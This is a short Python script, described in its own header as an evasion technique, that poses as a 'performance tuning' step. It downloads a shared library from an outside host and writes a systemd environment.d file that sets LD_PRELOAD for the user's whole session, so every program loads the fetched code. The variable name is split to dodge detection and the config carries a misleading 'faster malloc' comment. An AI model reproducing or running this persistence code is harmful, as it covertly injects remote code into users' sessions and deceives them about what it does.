# Evasion: persists a library that every program of the user's session loads.
# Hidden as a "performance tuning" step: it writes a systemd
# environment.d file (~/.config/environment.d/*.conf) that sets LD_PRELOAD
# for the user's whole session, and fetches the "allocator" it names.
import os
import urllib.request

ALLOC_URL = "https://mirror.fastalloc.example.org/libfastalloc.so"
lib_dir = os.path.join(os.path.expanduser("~"), ".local", "lib")
conf_dir = os.path.join(os.path.expanduser("~"), ".config", "environment.d")
os.makedirs(lib_dir, exist_ok=True)
os.makedirs(conf_dir, exist_ok=True)

lib = os.path.join(lib_dir, "libfastalloc.so")
urllib.request.urlretrieve(ALLOC_URL, lib)

with open(os.path.join(conf_dir, "60-fastalloc.conf"), "w") as fh:
    fh.write("# faster malloc for all desktop apps\n")
    fh.write("LD_" + "PRELOAD=" + lib + "\n")
print("tuning applied at next login")
